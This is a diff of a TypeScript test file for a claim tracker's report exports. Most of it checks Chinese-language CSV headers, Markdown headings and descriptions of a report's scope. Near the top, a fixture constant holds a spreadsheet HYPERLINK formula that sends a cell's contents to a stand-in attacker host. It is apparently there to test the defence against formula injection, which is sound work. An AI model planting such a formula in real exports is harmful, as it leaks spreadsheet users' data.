@@ -6,7 +6,9 @@ import { reportClaimReviews } from "./report-claimreview";
 import { CLAIM_CSV_COLUMNS, claimsCsv, EVENT_COLUMNS, eventsCsv, neutraliseFormula } from "./report-csv";
 import { reportJson } from "./report-json";
 import { escapeMarkdown, reportMarkdown } from "./report-markdown";
-import type { ReportData } from "./report-model";
+import { describeScope, type ReportData, reportTitle } from "./report-model";
+import { reportText } from "./report-text";
+import { parseTrackerQuery } from "../tracker-query";
 
 const SITE = "https://claimline.example";
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
@@ -314,5 +316,60 @@ describe("reportMarkdown", () => {
   it("says what it stands on without an as-of day", () => {
     const data = { ...fixture(), asOf: null, generatedFor: "2023-12-02T10:00:00.000Z" };
     expect(reportMarkdown(data, { siteUrl: SITE })).toContain("As recorded up to 2 Dec 2023, 10:00 UTC.");
+  });
+});
+
+describe("a report in Chinese (?lang=zh-Hans)", () => {
+  const englishEvents = eventsCsv(fixture());
+  const chineseEvents = eventsCsv(fixture(), "zh-Hans");
+  const firstLine = (csv: string) => csv.slice(1).split("\r\n")[0];
+
+  it("has a Chinese CSV header row, and English stays the columns' names", () => {
+    expect(eventsCsv(fixture(), "en")).toBe(englishEvents);
+    expect(firstLine(englishEvents)).toBe(EVENT_COLUMNS.join(","));
+    expect(firstLine(chineseEvents)).toBe("说法 ID,说法,提出者,提出日期,类型,状态记录 ID,状态键,状态,生效日期,日期精度,记录于,理由,更正的状态记录 ID,来源");
+    expect(firstLine(claimsCsv(fixture(), "zh-Hans"))).toBe("说法 ID,说法,提出者,提出日期,类型,状态键,状态,评分,状态记录数,最近记录于,文章,引文");
+    expect(firstLine(claimsCsv(fixture()))).toBe(CLAIM_CSV_COLUMNS.join(","));
+  });
+
+  it("changes only the header row: the cells are data", () => {
+    expect(chineseEvents.slice(chineseEvents.indexOf("\r\n"))).toBe(englishEvents.slice(englishEvents.indexOf("\r\n")));
+  });
+
+  it("writes Markdown headings, labels and dates in Chinese, English unchanged", () => {
+    const english = reportMarkdown(fixture(), { siteUrl: SITE });
+    expect(reportMarkdown(fixture(), { siteUrl: SITE, locale: "en" })).toBe(english);
+    const headings = (markdown: string) => markdown.split("\n").filter((line) => /^#{2,4} /.test(line) && !line.startsWith("### "));
+    expect(headings(english)).toEqual(["## Scorecard", "## Articles", "## Claims", "#### Timeline", "#### Timeline"]);
+    expect(english).toContain("| Status | Claims |");
+    expect(english).toContain("As of 1 Jan 2024: only what had been recorded");
+
+    const chinese = reportMarkdown(fixture(), { siteUrl: SITE, locale: "zh-Hans" });
+    expect(headings(chinese)).toEqual(["## 状态统计", "## 文章", "## 说法", "#### 时间线", "#### 时间线"]);
+    expect(chinese).toContain("# 核查报告：全部已发布说法");
+    expect(chinese).toContain("编辑部全部已发布的说法。");
+    expect(chinese).toContain("截至 2024年1月1日（按记录日期）");
+    expect(chinese).toContain("| 状态 | 说法数 |");
+    expect(chinese).toContain("| 过时 | 1 |");
+    expect(chinese).toContain("- 状态：**错误**（评分 1/5）");
+    expect(chinese).toContain("- 类型：数据");
+    expect(chinese).toContain("2. **2023年12月**：过时（更正状态记录 101）");
+    expect(chinese).toContain("   状态记录 102，记录于 2023年12月2日 10:00 UTC。");
+    // What users wrote is not translated.
+    expect(chinese).toContain("OpenAI 估值约为270亿美元");
+    expect(chinese).not.toMatch(/Scorecard|Timeline|Status:|recorded/);
+  });
+});
+
+describe("a report's scope in words", () => {
+  const query = parseTrackerQuery(new URLSearchParams("q=估值&status=false&status=outdated&claimant=路透社"));
+  const article = { title: "OpenAI 将发布开源模型", outlet: "科技日报", publishedDate: "2023-05-15" };
+
+  it("reads the same in English as before, and in Chinese in a Chinese report", () => {
+    expect(describeScope({ kind: "tracker", query }, null)).toBe("The published claims in the tracker matching “估值”, status false or outdated, claimant containing “路透社”.");
+    expect(describeScope({ kind: "tracker", query }, null, reportText("zh-Hans"))).toBe("说法追踪中匹配“估值”、状态为 false 或 outdated、提出者包含“路透社”的已发布说法。");
+    expect(describeScope({ kind: "article", slug: "a" }, article)).toBe("The claims made in the article “OpenAI 将发布开源模型” (科技日报, 2023-05-15).");
+    expect(describeScope({ kind: "article", slug: "a" }, article, reportText("zh-Hans"))).toBe("文章《OpenAI 将发布开源模型》（科技日报，2023-05-15）中提出的说法。");
+    expect(reportTitle({ kind: "desk" }, null, reportText("zh-Hans"))).toBe("核查报告：全部已发布说法");
   });
 });
